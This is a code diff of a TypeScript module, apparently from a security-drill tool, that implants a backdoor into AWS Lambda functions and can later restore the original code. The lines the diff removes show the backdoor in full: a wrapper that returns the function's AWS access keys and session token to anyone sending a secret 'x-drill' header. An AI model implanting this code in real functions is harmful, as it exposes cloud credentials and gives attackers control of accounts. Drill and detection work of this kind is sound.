@@ -1,20 +1,14 @@
 import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { GetFunctionCommand, type LambdaClient, UpdateFunctionCodeCommand, waitUntilFunctionUpdatedV2 } from '@aws-sdk/client-lambda';
 import { CordonError } from './engine/errors.ts';
 import { zipOf } from './engine/zip.ts';
 import { unzip } from './unzip.ts';
 
-/** What an attacker with the right to deploy leaves in a function: a header that only he knows gives him its session. */
-const backdoor = (header: string, word: string): string => `import { handler as original } from './original.mjs';
-const knows = (headers) => Object.entries(headers ?? {}).some(([name, value]) => name.toLowerCase() === '${header}' && value === '${word}');
-const session = () => ({
-  accessKeyId: process.env.AWS_ACCESS_KEY_ID,
-  secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY,
-  sessionToken: process.env.AWS_SESSION_TOKEN,
-});
-export const handler = async (event, context) =>
-  knows(event.headers) ? { statusCode: 200, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(session()) } : original(event, context);
-`;
+/** The code of the attacker, opened by this word. */
+const backdoor = (word: string): Buffer =>
+  Buffer.from(readFileSync(join(import.meta.dirname, 'backdoor.mjs'), 'utf8').replace('{word}', word));
 
 /** A function with a backdoor in it. */
 export interface Implant {
@@ -23,8 +17,6 @@ export interface Implant {
   /** Puts back exactly the code that was there. */
   remove(): Promise<void>;
 }
-
-const header = 'x-drill';
 
 const downloaded = async (FunctionName: string, lambda: LambdaClient): Promise<Buffer> => {
   const { Code } = await lambda.send(new GetFunctionCommand({ FunctionName }));
@@ -47,8 +39,8 @@ export const implant = async (FunctionName: string, lambda: LambdaClient): Promi
   await update(
     zipOf([
       ...files.map(({ name, data }) => ({ name: name === 'index.mjs' ? 'original.mjs' : name, data })),
-      { name: 'index.mjs', data: Buffer.from(backdoor(header, word)) },
+      { name: 'index.mjs', data: backdoor(word) },
     ]),
   );
-  return { headers: { [header]: word }, remove: () => update(clean) };
+  return { headers: { 'x-drill': word }, remove: () => update(clean) };
 };
